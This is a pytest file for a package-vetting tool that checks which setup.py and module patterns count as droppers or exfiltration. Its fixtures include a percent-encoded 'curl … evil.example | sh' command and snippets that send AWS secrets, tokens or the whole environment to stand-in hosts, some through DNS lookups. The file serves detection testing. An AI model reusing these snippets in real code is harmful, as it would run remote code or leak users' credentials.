"""ADR 0131: a child's environment, a URL the user's variable names, and percent-escapes.

Two popular packages were denied: ``future``'s backport of http.server's CGI handler (a
request's base64 ``Authorization`` user put into the script's environment read as a
dropper's decoded data) and ``pymupdf``'s setup.py (a download from the URL
``$PYMUPDF_SETUP_URL_WHEEL`` names read as exfiltration). Each benign shape below was
denied on the tree this started from; each sits next to the malicious shapes it must not
let through. A command spelt as percent-escapes of letters (``unquote('%63%75%72%6c')``)
was allowed; it is now a dropper.
"""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

MODULE = {"pkg/__init__.py": "def add(a, b):\n    return a + b\n"}
SETUP_END = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0')\n"


def _setup(source: str, extra: dict[str, str] | None = None) -> tuple[Outcome, list[str]]:
    files = {**MODULE, **(extra or {}), "setup.py": source + SETUP_END}
    report = vet("pkg-1.0.tar.gz", sdist("pkg", "1.0", files))
    return report.verdict, sorted({f.rule for f in report.findings if f.severity >= 3})


def _module(source: str) -> tuple[Outcome, list[str]]:
    files: dict[str, str | bytes] = {**MODULE, "pkg/server.py": source}
    report = vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", files))
    return report.verdict, sorted({f.rule for f in report.findings if f.severity >= 3})


# http.server's CGIHTTPRequestHandler.run_cgi, as future backports it: the script a request
# names runs with the request's user, base64-decoded from its header, in its environment.
CGI_HANDLER = """\
import base64, copy, os, subprocess, sys, urllib.parse

class CGIHandler:
    def run_cgi(self, scriptfile, rest, query):
        env = copy.deepcopy(os.environ)
        env['PATH_INFO'] = urllib.parse.unquote(rest)
        authorization = self.headers.get('authorization').split()
        user = base64.decodebytes(authorization[1].encode('ascii')).decode('ascii')
        env['REMOTE_USER'] = user.split(':')[0]
        args = [scriptfile, query.replace('+', ' ')]
        if self.have_fork:
            os.execve(scriptfile, args, env)
        cmdline = [sys.executable, '-u', scriptfile, query]
        p = subprocess.Popen(cmdline, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env)
        return p.communicate(self.rfile.read(int(self.headers['content-length'])))
"""


def test_a_cgi_handlers_decoded_user_in_the_scripts_environment_is_allowed() -> None:
    verdict, rules = _module(CGI_HANDLER)
    assert verdict is Outcome.ALLOW, rules


DENIED_CHILD_ENV = {
    # A decoded payload moved into the environment of a process started on import.
    "decoded-environment-on-import": (
        "import base64, subprocess\n"
        "subprocess.Popen(['/usr/bin/env'], env={'P': base64.b64decode('Y3VybCBldmls')})\n"
    ),
    # When called, by a command that reads the variable: a shell's eval, Python's exec.
    "environment-read-by-a-shell": (
        "import base64, subprocess\n"
        "def run(blob):\n"
        "    subprocess.Popen(['sh', '-c', 'eval \"$P\"'], env={'P': base64.b64decode(blob)})\n"
    ),
    "environment-read-by-python": (
        "import base64, os, subprocess, sys\n"
        "def run():\n"
        "    code = \"import os; exec(os.environ['P'])\"\n"
        "    env = dict(P=base64.b64decode('cHJpbnQoMSk='))\n"
        "    subprocess.Popen([sys.executable, '-c', code], env=env)\n"
    ),
    # A blob written in the code decoded into the environment, when called, of a program
    # whose text reads no variable (a script written beside it may: it is not read here).
    "written-blob-for-a-written-runner": (
        "import base64, subprocess, sys\n"
        "def helper():\n"
        "    with open('/tmp/r.py', 'w') as f:\n"
        "        f.write(\"import os; exec(os.environ['P'])\")\n"
        "    env = {'P': base64.b64decode('cHJpbnQoMSk=')}\n"
        "    subprocess.Popen([sys.executable, '/tmp/r.py'], env=env)\n"
    ),
    "module-blob-for-a-given-script": (
        "import base64, subprocess, sys\n"
        "BLOB = 'cHJpbnQoMSk=' * 3\n"
        "def helper(path):\n"
        "    subprocess.Popen([sys.executable, path], env={'P': base64.b64decode(BLOB)})\n"
    ),
    # A request's decoded header beside a blob written in the code.
    "request-header-beside-a-written-blob": (
        "import base64, subprocess, sys\n"
        "class H:\n"
        "    def run(self, path):\n"
        "        user = base64.b64decode(self.headers['a'])\n"
        "        env = {'USER': user, 'P': base64.b64decode('cHJpbnQoMSk=')}\n"
        "        subprocess.Popen([sys.executable, path], env=env)\n"
    ),
    # A file's data decoded into the environment.
    "file-data-decoded": (
        "import base64, subprocess, sys\n"
        "def run(path):\n"
        "    data = open('/usr/share/x.dat').read()\n"
        "    subprocess.Popen([sys.executable, path], env={'P': base64.b64decode(data)})\n"
    ),
    # A request's decoded data as the program run, not in its environment.
    "decoded-program-from-a-request": (
        "import base64, os\n"
        "class H:\n"
        "    def handle(self):\n"
        "        program = base64.b64decode(self.headers['x-run']).decode()\n"
        "        os.execve(program, [program], os.environ)\n"
    ),
}


@pytest.mark.parametrize("case", sorted(DENIED_CHILD_ENV))
def test_decoded_data_a_child_runs_is_still_a_dropper(case: str) -> None:
    verdict, rules = _module(DENIED_CHILD_ENV[case])
    assert verdict is Outcome.DENY, rules
    assert "dropper" in rules


# A command spelt as percent-escapes of letters: no URL quoting escapes a letter.
HIDDEN_CURL = (
    "%63%75%72%6c%20%68%74%74%70%73%3a%2f%2f%65%76%69%6c%2e%65%78%61%6d%70%6c%65%2f%78%7c%73%68"
)


HIDDEN_COMMANDS = {
    "os-system-of-unquote": (
        f"import os, urllib.parse\nos.system(urllib.parse.unquote('{HIDDEN_CURL}'))\n"
    ),
    "shell-run-of-unquote-plus": (
        f"from urllib.parse import unquote_plus\nimport subprocess\n"
        f"subprocess.run(unquote_plus('{HIDDEN_CURL}'), shell=True)\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_COMMANDS))
def test_a_command_hidden_as_percent_escapes_is_a_dropper(case: str) -> None:
    verdict, rules = _setup(HIDDEN_COMMANDS[case])
    assert verdict is Outcome.DENY, rules
    assert "dropper" in rules


UNQUOTED_PATHS = {
    # A path from a request, unquoted and opened: nothing written in the code.
    "request-path": (
        "import subprocess, urllib.parse\n"
        "class H:\n"
        "    def do_GET(self):\n"
        "        subprocess.run(['xdg-open', urllib.parse.unquote(self.path)])\n"
    ),
    # A written-out path quoted as URLs are (a space, a slash): no letter escaped.
    "quoted-literal": (
        "import subprocess, urllib.parse\n"
        "def show():\n"
        "    subprocess.run(['xdg-open', urllib.parse.unquote('/tmp/a%20b%2Fc.pdf')])\n"
    ),
}


@pytest.mark.parametrize("case", sorted(UNQUOTED_PATHS))
def test_unquoted_paths_are_not_decoded_data(case: str) -> None:
    verdict, rules = _module(UNQUOTED_PATHS[case])
    assert verdict is Outcome.ALLOW, rules


HELD_SETUP = {
    # pymupdf: a wheel fetched from where a variable says, its own name appended to a folder.
    "wheel-from-a-variables-url": (
        "import os, urllib.request\n"
        "URL = os.environ.get('PKG_SETUP_URL_WHEEL')\n"
        "def wheel_name():\n"
        "    return 'pkg-1.0-py3-none-any.whl'\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    url = URL\n"
        "    leaf = wheel_name()\n"
        "    if url.endswith('/'):\n"
        "        url += leaf\n"
        "    urllib.request.urlretrieve(url, wheel_directory + leaf + '-')\n"
        "    return leaf\n"
        "if URL:\n"
        "    build_wheel('dist/')\n"
    ),
    # A source archive at the URL a variable holds.
    "source-from-a-variable": (
        "import os, urllib.request\n"
        "urllib.request.urlretrieve(os.environ['PKG_SOURCE_TGZ'], 'src.tar.gz')\n"
    ),
    # A mirror chosen by a variable, with a default, and a path after it.
    "index-from-a-variable": (
        "import os, urllib.request\n"
        "urllib.request.urlopen(os.environ.get('PKG_MIRROR', 'https://pypi.org') + '/simple/x/')\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HELD_SETUP))
def test_a_download_from_where_a_variable_says_holds_without_exfiltration(case: str) -> None:
    verdict, rules = _setup(HELD_SETUP[case])
    assert verdict is Outcome.HOLD, rules
    assert "exfiltration" not in rules


DENIED_SETUP = {
    "secret-in-a-query": (
        "import os, urllib.request\n"
        "urllib.request.urlretrieve("
        "'https://x.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'], 'a')\n"
    ),
    "whole-environment-in-a-body": (
        "import os, requests\nrequests.post('https://h.example/collect', data=os.environ)\n"
    ),
    "variable-in-a-body-to-a-variables-url": (
        "import os, requests\nrequests.post(os.environ['UPLOAD_URL'], data=os.environ['TOKEN'])\n"
    ),
    "two-variables-joined": (
        "import os, urllib.request\n"
        "urllib.request.urlopen(os.environ['HOME_URL'] + os.environ['TOKEN'])\n"
    ),
    # The second variable changed first: the text shows no ``$TOKEN``.
    "second-variable-encoded": (
        "import os, urllib.request\n"
        "tail = '?t=' + os.environ['TOKEN'].encode().hex()\n"
        "urllib.request.urlopen(os.environ['HOME_URL'] + tail)\n"
    ),
    "second-variable-added-later": (
        "import os, urllib.request\n"
        "url = os.environ['HOME_URL'] + '/x?k='\n"
        "url += os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "urllib.request.urlopen(url)\n"
    ),
    "second-variable-through-a-function": (
        "import os, urllib.request\n"
        "def same(k):\n"
        "    return k\n"
        "urllib.request.urlopen(os.environ['HOME_URL'] + same(os.environ['TOKEN']))\n"
    ),
    "second-variable-by-urljoin": (
        "import os, urllib.parse, urllib.request\n"
        "url = urllib.parse.urljoin(os.environ['HOME_URL'], os.environ['TOKEN'])\n"
        "urllib.request.urlopen(url)\n"
    ),
    "second-variable-by-percent-format": (
        "import os, urllib.request\n"
        "u = '%s%s' % (os.environ['HOME_URL'], os.environ['TOKEN'].encode().hex())\n"
        "urllib.request.urlopen(u)\n"
    ),
    "host-name-after-a-variables-url": (
        "import os, socket, urllib.request\n"
        "urllib.request.urlopen(os.environ['HOME_URL'] + '/' + socket.gethostname())\n"
    ),
    "variable-in-a-request-body": (
        "import os, urllib.request\n"
        "req = urllib.request.Request("
        "os.environ['HOME_URL'] + '/x', data=os.environ['TOKEN'].encode())\n"
        "urllib.request.urlopen(req)\n"
    ),
    # The module itself sets the variable it then fetches from.
    "variable-set-by-the-module": (
        "import os, urllib.request\n"
        "os.environ['HOME_URL'] = 'https://x.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "urllib.request.urlopen(os.environ['HOME_URL'])\n"
    ),
    "variable-set-by-update": (
        "import os, urllib.request\n"
        "os.environ.update({'HOME_URL': 'https://x.example/?k=' + os.environ['AWS_KEY']})\n"
        "urllib.request.urlopen(os.environ['HOME_URL'])\n"
    ),
    # Variables loaded from a shipped file, which may spell another variable into a URL.
    "variables-loaded-from-a-file": (
        "import os, urllib.request\n"
        "from dotenv import load_dotenv\n"
        "load_dotenv()\n"
        "urllib.request.urlopen(os.environ['HOME_URL'])\n"
    ),
    # A variable leading a name looked up: DNS exfiltration, whatever leads.
    "variable-leading-a-name-looked-up": (
        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.evil.example')\n"
    ),
    # The coordinator's review: a variable leading a URL to a host written after it, or a
    # credential's variable as the address, sends its value to that host's name server.
    "variable-leading-a-host-in-a-url": (
        "import os, requests\nrequests.get(os.environ['CI_USER'] + '.evil.example')\n"
    ),
    "variable-as-the-user-of-a-url": (
        "import os, urllib.request\n"
        "urllib.request.urlopen(os.environ.get('BUILD_ID') + '@evil.example/x')\n"
    ),
    "variable-before-a-port": (
        "import os, requests\nrequests.get(os.environ['BUILD_ID'] + ':8080/x')\n"
    ),
    "credential-variable-as-the-address": (
        "import os, requests\nk = os.getenv('AWS_SECRET_ACCESS_KEY')\nrequests.get(k + '/x')\n"
    ),
    "token-variable-in-a-function": (
        "import os, requests\n"
        "def go():\n"
        "    requests.post(os.environ['NPM_TOKEN'] + '.x.evil.example', data='hi')\n"
        "go()\n"
    ),
}


@pytest.mark.parametrize("case", sorted(DENIED_SETUP))
def test_environment_data_sent_stays_exfiltration(case: str) -> None:
    verdict, rules = _setup(DENIED_SETUP[case])
    assert verdict is Outcome.DENY, rules
    assert "exfiltration" in rules


def test_a_variable_set_by_another_module_of_the_archive_still_holds() -> None:
    # Not denied (the file's own pass does not read the other module, ADR 0131), but held.
    conf = "import os\nos.environ['HOME_URL'] = 'https://x.example/?k=' + os.environ['KEY']\n"
    source = "import os, urllib.request\nimport pkg.conf\n"
    source += "urllib.request.urlopen(os.environ['HOME_URL'])\n"
    verdict, rules = _setup(source, {"pkg/conf.py": conf})
    assert verdict is not Outcome.ALLOW, rules
